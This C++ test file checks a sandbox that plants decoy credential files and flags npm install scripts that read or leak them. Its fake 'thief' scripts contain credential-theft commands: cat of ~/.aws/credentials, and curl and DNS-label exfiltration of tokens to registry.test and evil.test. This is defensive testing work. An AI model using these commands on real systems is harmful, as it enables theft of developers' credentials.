// Decoy credentials end to end: the throwaway home holds them, a script that opens one is a
// credential-read finding naming it (as root, with its process, package and script), npm's
// own read of ~/.npmrc is none, and a decoy's value leaving through the gateway -- in a
// header, a request line, a body or a DNS name -- is exfiltration. Every run that reads or
// sends one is held (exit 121); the report names the decoys, never their values.
#include <algorithm>
#include <catch2/catch.hpp>
#include <fstream>
#include <regex>

#include "tests/integration/harness.h"
#include "tests/integration/project_checks.h"
#include "tests/integration/skip.h"
#include "tests/support/fake_internet.h"
#include "tests/support/npm_registry.h"

using namespace safeinstall::test;
using namespace std::chrono_literals;
using nlohmann::json;

namespace {

Who both_users() {
  return GENERATE(Who::Root, Who::Unprivileged);
}

// A lifecycle script as npm starts it: `sh -c SCRIPT` with the package's lifecycle env.
std::vector<std::string> as_lifecycle_script(const std::string& package, const std::string& event,
                                             const std::string& script) {
  return {"env",
          "npm_package_name=" + package,
          "npm_package_version=1.0.0",
          "npm_lifecycle_event=" + event,
          "/bin/sh",
          "-c",
          script};
}

std::string first_match(const std::string& text, const std::string& pattern) {
  std::smatch m;
  if (!std::regex_search(text, m, std::regex(pattern))) return {};
  return m.size() > 1 ? m[1].str() : m[0].str();
}

const std::vector<std::string> kDecoyFiles = {"~/.npmrc",
                                              "~/.ssh/id_rsa",
                                              "~/.aws/credentials",
                                              "~/.config/gh/hosts.yml",
                                              "~/.docker/config.json",
                                              "~/.git-credentials",
                                              "~/.kube/config"};

}  // namespace

TEST_CASE("decoys: a script that reads ~/.aws/credentials is a credential-read finding",
          "[decoys]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  auto run = s.run(as_lifecycle_script("thief", "postinstall", "cat ~/.aws/credentials; exit 0"));
  INFO(run.result.out << run.result.err);
  // Inside: a plausible file a person still recognizes.
  CHECK(contains(run.result.out, "# safeinstall decoy"));
  const std::string key_id = first_match(run.result.out, "aws_access_key_id = (AKIA[A-Z0-9]{16})");
  const std::string secret =
      first_match(run.result.out, "aws_secret_access_key = ([A-Za-z0-9]{40})");
  REQUIRE_FALSE(key_id.empty());
  REQUIRE_FALSE(secret.empty());

  CHECK(run.exit_code() == kExitSuspicious);
  CHECK(run.report.at("verdict") == "held");
  auto reads = findings_of_kind(run.report, "credential-read");
  REQUIRE(reads.size() == 1);
  CHECK(reads[0].at("severity") == "high");
  CHECK(reads[0].at("path") == ".aws/credentials");
  const std::string detail = reads[0].at("detail");
  CHECK(contains(detail, "~/.aws/credentials"));
  const auto& sandbox = run.report.at("sandbox");
  CHECK(sandbox.at("decoys") == json(kDecoyFiles));
  if (who == Who::Root) {
    // fanotify names the process; the recorder knows its package and script.
    CHECK(sandbox.at("decoy_watch") == "fanotify");
    CHECK(contains(detail, "by cat /"));
    CHECK(contains(detail, "thief@1.0.0 postinstall script"));
    CHECK(reads[0].at("package") == "thief@1.0.0");
    CHECK(reads[0].at("pid").get<int>() > 0);
  } else {
    CHECK(sandbox.at("decoy_watch") == "inotify");
    CHECK(contains(detail, "the process is not known"));
    CHECK(contains(detail, "thief@1.0.0 postinstall"));
  }
  CHECK(contains(run.result.err, "credential"));
  // The values stay out of the report; a second run gets others.
  CHECK_FALSE(contains(run.report.dump(), key_id));
  CHECK_FALSE(contains(run.report.dump(), secret));
  auto again = s.run({"/bin/cat", s.home() + "/.aws/credentials"});
  CHECK_FALSE(contains(again.result.out, key_id));
  CHECK_FALSE(contains(again.result.out, secret));
  CHECK(contains(again.result.out, "aws_access_key_id = AKIA"));
}

TEST_CASE("decoys: made inside the sandbox, and an open through a link or another path is caught",
          "[decoys]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  // A symlink the script makes to one decoy, and a path that does not start at the home (the
  // root as /proc/self/root shows it) to another: the watch is on the files, not their names.
  auto run = s.run(as_lifecycle_script("thief", "postinstall",
                                       "ln -s ~/.aws/credentials /tmp/creds && cat /tmp/creds; "
                                       "cat /proc/self/root$HOME/.kube/config; exit 0"));
  INFO(run.result.out << run.result.err);
  CHECK(contains(run.result.out, "aws_access_key_id = AKIA"));
  CHECK(contains(run.result.out, "# safeinstall decoy"));
  CHECK(run.exit_code() == kExitSuspicious);
  auto reads = findings_of_kind(run.report, "credential-read");
  std::vector<std::string> paths;
  for (const auto& read : reads) paths.push_back(read.at("path"));
  CHECK(std::ranges::count(paths, ".aws/credentials") == 1);
  CHECK(std::ranges::count(paths, ".kube/config") == 1);
  // Read-only inside, and nothing of them on the host: the run's dir holds no copy.
  auto write = s.run({"/bin/sh", "-c", "echo x >> ~/.aws/credentials || echo refused; exit 0"});
  CHECK(contains(write.result.out, "refused"));
  const std::string run_dir = run.report.at("staging").at("run_dir");
  CHECK_FALSE(path_exists(run_dir + "/decoys"));
}

TEST_CASE("decoys: a run that opens none has no finding, and decoys off by profile leave none",
          "[decoys]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  // Listing and stat-ing them is no read.
  auto quiet =
      s.run({"/bin/sh", "-c", "ls -la ~/.aws ~/.ssh ~/.kube >/dev/null; test -s ~/.npmrc"});
  INFO(quiet.result.out << quiet.result.err);
  CHECK(quiet.exit_code() == 0);
  CHECK(quiet.report.at("verdict") == "promoted");
  CHECK(findings_of_kind(quiet.report, "credential-read").empty());

  const std::string config_dir = s.home() + "/.config/safeinstall";
  run({"mkdir", "-p", config_dir});
  {
    std::ofstream(config_dir + "/nodecoys.toml")
        << "extends = \"base\"\n[decoys]\nenabled = false\n";
  }
  run({"chown", "-R", std::to_string(s.uid()), s.home() + "/.config"});
  auto off = s.run({"/bin/sh", "-c",
                    "for f in .npmrc .ssh/id_rsa .aws/credentials .config/gh/hosts.yml "
                    ".docker/config.json .git-credentials .kube/config; do "
                    "test -e ~/$f && echo present $f; cat ~/$f 2>/dev/null; done; exit 0"},
                   {"--profile", "nodecoys"});
  INFO(off.result.out << off.result.err);
  CHECK(off.exit_code() == 0);
  CHECK_FALSE(contains(off.result.out, "present"));
  CHECK_FALSE(contains(off.result.out, "safeinstall decoy"));
  CHECK(off.report.at("sandbox").at("decoys").empty());
  CHECK(findings_of_kind(off.report, "credential-read").empty());

  // The same for one run, by flag.
  auto flag = s.run({"/bin/sh", "-c", "cat ~/.aws/credentials; ls -a ~; exit 0"}, {"--no-decoys"});
  INFO(flag.result.out << flag.result.err);
  CHECK(flag.exit_code() == 0);
  CHECK_FALSE(contains(flag.result.out, "safeinstall decoy"));
  CHECK_FALSE(contains(flag.result.out, ".aws"));
  CHECK(flag.report.at("sandbox").at("decoys").empty());
}

// The real npm against the tests' own registry: npm opens ~/.npmrc itself, then runs a
// postinstall that opens it again.
TEST_CASE("decoys: npm's own read of ~/.npmrc is no finding, its postinstall's is",
          "[decoys][npm]") {
  Who who = both_users();
  SKIP_UNLESS_INSTALL_TEST(who, "npm");
  FakeInternet net(SI_SINK_PATH);
  const std::string thief =
      "node -e \"require('fs').readFileSync(require('os').homedir() + "
      "'/.npmrc')\"";
  write_npm_registry(net.registry_root(), "http://registry.test/",
                     {{.name = "plain", .version = "1.0.0", .files = {{"index.js", "1;\n"}}},
                      {.name = "thief",
                       .version = "1.0.0",
                       .scripts = {{"postinstall", thief}},
                       .files = {{"index.js", "1;\n"}}}});
  Scenario s(who);
  s.run_behind(net.in_world({}));

  write_package_json(s, "\"plain\":\"1.0.0\"");
  auto clean = run_npm(s, {"install", "--foreground-scripts"}, {"--no-promote"});
  REQUIRE(clean.report.is_object());
  CHECK(findings_of_kind(clean.report, "credential-read").empty());
  const auto& decoys = clean.report.at("sandbox").at("decoys");
  bool npmrc_decoy = std::find(decoys.begin(), decoys.end(), "~/.npmrc") != decoys.end();
  if (who == Who::Root) {
    CHECK(npmrc_decoy);  // npm read it, and that was no finding
    CHECK(clean.exit_code() == 0);
  } else {
    // Without a pid npm's read could not be told from a script's: no decoy there at all.
    CHECK_FALSE(npmrc_decoy);
    CHECK(contains(clean.result.err, "no ~/.npmrc decoy"));
  }

  if (who != Who::Root) return;
  write_package_json(s, "\"thief\":\"1.0.0\"");
  auto stolen = run_npm(s, {"install", "--foreground-scripts"});
  REQUIRE(stolen.report.is_object());
  auto reads = findings_of_kind(stolen.report, "credential-read");
  REQUIRE(reads.size() == 1);
  CHECK(reads[0].at("path") == ".npmrc");
  CHECK(reads[0].at("package") == "thief@1.0.0");
  CHECK(contains(reads[0].at("detail").get<std::string>(), "thief@1.0.0 postinstall script"));
  CHECK(stolen.exit_code() == kExitSuspicious);
  CHECK(stolen.report.at("verdict") == "held");
  CHECK_FALSE(in_project(s, "node_modules/thief"));
}

namespace {

std::vector<json> exfiltration(const SandboxRun& run) {
  std::vector<json> out;
  for (const auto& e : run.report.at("network").at("exfiltration")) out.push_back(e);
  return out;
}

bool sent(const std::vector<json>& list, const std::string& decoy, const std::string& where,
          const std::string& host) {
  return std::any_of(list.begin(), list.end(), [&](const json& e) {
    return e.at("decoy") == decoy && e.at("where") == where && e.at("host") == host;
  });
}

const std::vector<std::string> kNoInvokerProxy = {
    "http_proxy=", "HTTP_PROXY=", "https_proxy=", "HTTPS_PROXY=",
    "all_proxy=",  "ALL_PROXY=",  "no_proxy=",    "NO_PROXY="};

}  // namespace

TEST_CASE("decoys: a value sent through the proxy or in a DNS name is exfiltration", "[decoys]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  if (auto reason = FakeInternet::unavailable_reason()) {
    WARN("skipped: no fake internet here: " << *reason);
    return;
  }
  FakeInternet net(SI_SINK_PATH);
  Scenario s(who);
  s.run_behind(net.in_world({}));
  const std::string probe = s.probe_in_project();
  // Four ways out, each with another decoy: a header, a body, a request line (base64 of the
  // whole file) and a DNS label (hex).
  const std::string script =
      "token=$(sed -n 's/.*_authToken=//p' ~/.npmrc); "
      "curl -s -m 10 -o /dev/null -H \"Authorization: Bearer $token\" "
      "http://registry.test/blob/10; "
      "curl -s -m 10 -o /dev/null --data-binary @$HOME/.aws/credentials "
      "http://registry.test/blob/10; "
      "curl -s -m 10 -o /dev/null \"http://registry.test/blob/10?k=$(base64 -w0 ~/.kube/config | "
      "tr '+/' '-_')\"; "
      "key=$(sed -n 's/oauth_token: //p' ~/.config/gh/hosts.yml | tr -d ' '); " +
      probe +
      " resolve \"$(printf %s \"$key\" | od -An -tx1 | tr -d ' \\n' | fold -w 40 | paste -sd. "
      "-).evil.test\"; "
      "echo \"token=$token\"; exit 0";
  std::vector<std::string> env = kNoInvokerProxy;
  auto run = s.run({"/bin/sh", "-c", script}, {"--allow-host", "registry.test:80"}, env);
  INFO(run.result.out << run.result.err << "\nnetwork: " << run.report.at("network").dump());
  const std::string token = first_match(run.result.out, "token=(npm_[A-Za-z0-9]{36})");
  REQUIRE_FALSE(token.empty());

  auto found = exfiltration(run);
  CHECK(sent(found, "~/.npmrc", "header Authorization", "registry.test"));
  CHECK(sent(found, "~/.aws/credentials", "request body", "registry.test"));
  CHECK(sent(found, "~/.kube/config", "request line", "registry.test"));
  CHECK(sent(found, "~/.config/gh/hosts.yml", "dns question",
             "[decoy:~/.config/gh/hosts.yml].evil.test"));
  auto critical = findings_of_kind(run.report, "exfiltration");
  CHECK(critical.size() == found.size());
  for (const auto& f : critical) CHECK(f.at("severity") == "critical");
  CHECK(run.report.at("verdict") == "held");
  CHECK(run.exit_code() != 0);
  // The other side: the registry did get the decoy (it was allowed), and the DNS name never
  // left the machine; the report holds the value nowhere, the DNS name only masked.
  CHECK(net.wait_for_log(FakeInternet::Log::Registry, "GET /blob/10"));
  CHECK_FALSE(contains(net.dns_log(), "evil.test"));
  CHECK_FALSE(contains(run.report.dump(), token.substr(4)));
  bool masked_question = false;
  for (const auto& q : run.report.at("network").at("dns"))
    masked_question |= q.at("name") == "[decoy:~/.config/gh/hosts.yml].evil.test";
  CHECK(masked_question);
}
